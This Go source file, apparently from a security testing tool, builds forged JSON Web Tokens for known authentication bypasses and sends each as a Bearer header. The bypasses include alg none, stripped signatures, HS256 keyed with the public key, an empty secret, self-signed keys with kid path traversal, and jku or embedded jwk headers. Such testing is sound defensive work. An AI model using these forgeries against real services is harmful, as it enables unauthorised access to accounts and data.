package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"strings"
	"time"
)

// claims of a JSON Web Token, or its header.
type claims map[string]any

// over is c with others in place of its own; nil takes one out.
func (c claims) over(others claims) claims {
	out := claims{}
	for _, from := range []claims{c, others} {
		for k, v := range from {
			if out[k] = v; v == nil {
				delete(out, k)
			}
		}
	}
	return out
}

// good are the claims that a target takes, where they are signed.
func (p *play) good() claims {
	j := p.Front.Clients.JWT
	return claims{"iss": j.Issuer, "aud": j.Audience, "sub": "zlattack", "exp": time.Now().Add(5 * time.Minute).Unix()}
}

// encoded is the first two parts of a token, which are what is signed.
func encoded(header, payload claims) string {
	part := func(c claims) string {
		text, err := json.Marshal(c)
		if err != nil {
			panic(err) // texts, numbers and lists of them
		}
		return base64.RawURLEncoding.EncodeToString(text)
	}
	return part(header) + "." + part(payload)
}

// signed is a token with a signature by key, made as alg says (RFC 7518, sections 3.3 and 3.4).
func signed(alg string, key crypto.Signer, header, payload claims) (string, error) {
	text := encoded(claims{"alg": alg, "typ": "JWT"}.over(header), payload)
	hash := map[string]crypto.Hash{"256": crypto.SHA256, "384": crypto.SHA384, "512": crypto.SHA512}[alg[2:]]
	if hash == 0 {
		return "", fmt.Errorf("%q is no algorithm that is known here", alg)
	}
	h := hash.New()
	h.Write([]byte(text))
	var sig []byte
	var err error
	switch k := key.(type) {
	case *ecdsa.PrivateKey:
		size := (k.Curve.Params().BitSize + 7) / 8
		r, s, fault := ecdsa.Sign(rand.Reader, k, h.Sum(nil))
		if err = fault; err == nil {
			sig = append(r.FillBytes(make([]byte, size)), s.FillBytes(make([]byte, size))...)
		}
	default:
		sig, err = key.Sign(rand.Reader, h.Sum(nil), hash)
	}
	return text + "." + base64.RawURLEncoding.EncodeToString(sig), err
}

// own is a key of our own of the kind that an algorithm wants.
func own(alg string) (crypto.Signer, error) {
	if strings.HasPrefix(alg, "ES") {
		curve := map[string]elliptic.Curve{"ES256": elliptic.P256(), "ES384": elliptic.P384(), "ES512": elliptic.P521()}[alg]
		if curve == nil {
			curve = elliptic.P256()
		}
		return ecdsa.GenerateKey(curve, rand.Reader)
	}
	return rsa.GenerateKey(rand.Reader, 2048)
}

// token is a token to play, or why it cannot be made.
type token func(*play) (string, error)

// jwt is an attack by a token.
func jwt(id, title string, need need, make token) Attack {
	return Attack{ID: "jwt/" + id, Title: title, needs: need, refused: denied, send: func(ctx context.Context, p *play) Reply {
		text, err := make(p)
		if err != nil {
			return Reply{Fault: err.Error()}
		}
		return asking("Authorization: Bearer "+text)(ctx, p)
	}}
}

// unsigned is a token with a signature that takes no key.
func unsigned(header claims, signature string) token {
	return func(p *play) (string, error) {
		return encoded(claims{"alg": p.Front.Clients.JWT.Algorithm, "typ": "JWT"}.over(header), p.good()) + signature, nil
	}
}

// byOwnKey is a token signed by a key of our own.
func byOwnKey(header func(*play, crypto.Signer) claims) token {
	return func(p *play) (string, error) {
		alg := p.Front.Clients.JWT.Algorithm
		key, err := own(alg)
		if err != nil {
			return "", err
		}
		return signed(alg, key, header(p, key), p.good())
	}
}

// keylessTokens need no private key of the issuer's.
func keylessTokens() []Attack {
	plain := func(*play, crypto.Signer) claims { return nil }
	return []Attack{
		jwt("none", "alg none", needsJWT, unsigned(claims{"alg": "none"}, ".")),
		jwt("none-case", "alg nOnE", needsJWT, unsigned(claims{"alg": "nOnE"}, ".")),
		jwt("none-signed", "alg none, with a signature", needsJWT, unsigned(claims{"alg": "none"}, ".AAAA")),
		jwt("no-signature", "no signature", needsJWT, unsigned(nil, ".")),
		jwt("two-parts", "no third part", needsJWT, unsigned(nil, "")),
		jwt("no-alg", "no alg", needsJWT, unsigned(claims{"alg": nil}, ".AAAA")),
		jwt("zeros", "a signature of zeros", needsJWT, unsigned(nil, "."+strings.Repeat("A", 86))),
		jwt("garbage", "no token at all", needsJWT, func(*play) (string, error) { return "a.b.c", nil }),
		jwt("hs256-pem", "HS256, with the public key as the secret", needsKeys, macOf(pemOf)),
		jwt("hs256-der", "HS256, with the public key in DER as the secret", needsKeys, macOf(x509.MarshalPKIXPublicKey)),
		jwt("hs256-empty", "HS256, with an empty secret", needsJWT, mac(nil)),
		jwt("own-key", "another key", needsJWT, byOwnKey(plain)),
		jwt("kid-path", "another key, and a kid that is a path", needsJWT, byOwnKey(func(*play, crypto.Signer) claims { return claims{"kid": "../../../../dev/null"} })),
		jwt("kid-swap", "another key, and the kid of the first", needsJWT, byOwnKey(func(*play, crypto.Signer) claims { return claims{"kid": "0"} })),
		jwt("jku", "another key, and where to fetch it", needsJWT, byOwnKey(func(*play, crypto.Signer) claims {
			return claims{"jku": "https://127.0.0.1:1/zlattack.json", "x5u": "https://127.0.0.1:1/zlattack.pem"}
		})),
		jwt("jwk", "another key, and that key", needsJWT, byOwnKey(embedded)),
	}
}

// embedded is a header that brings the key along. A reader of RFC 7515 takes it.
func embedded(_ *play, key crypto.Signer) claims {
	b64 := base64.RawURLEncoding.EncodeToString
	switch k := key.Public().(type) {
	case *rsa.PublicKey:
		return claims{"jwk": claims{"kty": "RSA", "n": b64(k.N.Bytes()), "e": "AQAB"}}
	case *ecdsa.PublicKey:
		return claims{"jwk": claims{"kty": "EC", "crv": k.Curve.Params().Name, "x": b64(k.X.Bytes()), "y": b64(k.Y.Bytes())}}
	}
	return nil
}

func pemOf(key any) ([]byte, error) {
	der, err := x509.MarshalPKIXPublicKey(key)
	return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), err
}

// macOf is HS256 with a public key as the secret, for who asks the token how to verify it.
func macOf(secret func(any) ([]byte, error)) token {
	return func(p *play) (string, error) {
		key, err := secret(p.Keys[0])
		if err != nil {
			return "", err
		}
		return mac(key)(p)
	}
}

func mac(secret []byte) token {
	return func(p *play) (string, error) {
		text := encoded(claims{"alg": "HS256", "typ": "JWT"}, p.good())
		h := hmac.New(sha256.New, secret)
		h.Write([]byte(text))
		return text + "." + base64.RawURLEncoding.EncodeToString(h.Sum(nil)), nil
	}
}
